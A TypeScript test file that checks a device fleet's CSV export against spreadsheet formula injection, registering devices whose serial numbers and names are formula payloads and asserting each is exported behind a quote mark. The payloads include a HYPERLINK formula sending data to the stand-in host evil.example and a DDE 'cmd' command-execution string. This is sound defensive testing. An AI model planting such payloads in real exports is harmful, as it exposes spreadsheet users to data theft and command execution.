import { describe, expect, it } from "vitest";
import { deviceListQuerySchema } from "@/lib/schemas/device-list";
import { exportDevicesCsv } from "@/lib/server/data/devices/export-devices-csv";
import { parseCsv } from "@/lib/csv";
import { body, call, modelWithKey } from "./support/device-api";
import { useRunningTestHub } from "./support/running-hub";

useRunningTestHub();

describe("[FLEET] CSV export of what devices sent", () => {
  it("a formula registered through the device API as a serial number or name is exported as text", async () => {
    const model = await modelWithKey("HTTP");
    const formulas = [
      { sn: '=HYPERLINK("http://evil.example/?leak=1","Click")', name: "@SUM(1+1)" },
      { sn: "+1+cmd|' /C calc'!A0", name: "-2+3" },
    ];
    for (const fields of formulas) expect((await call("register", body(model.hardwareKey, fields))).status).toBe(201);
    expect((await call("register", body(model.hardwareKey, { sn: "PLAIN-1", name: "Lobby = east" }))).status).toBe(201);

    const text = await new Response(
      exportDevicesCsv({ partnerId: model.partnerId, query: deviceListQuerySchema.parse({}) }),
    ).text();
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=1"",""Click"")","'@SUM(1+1)"`);
    const [header, ...rows] = parseCsv(text);
    const sn = header!.indexOf("sn");
    const name = header!.indexOf("name");
    // No field a spreadsheet would run; each is the text the device sent, behind a quote mark.
    expect(rows.flat().filter((field) => /^[=+\-@\t\r]/.test(field))).toEqual([]);
    expect(rows.map((row) => [row[sn], row[name]]).sort()).toEqual(
      [...formulas.map((f) => [`'${f.sn}`, `'${f.name}`]), ["PLAIN-1", "Lobby = east"]].sort(),
    );
  });
});
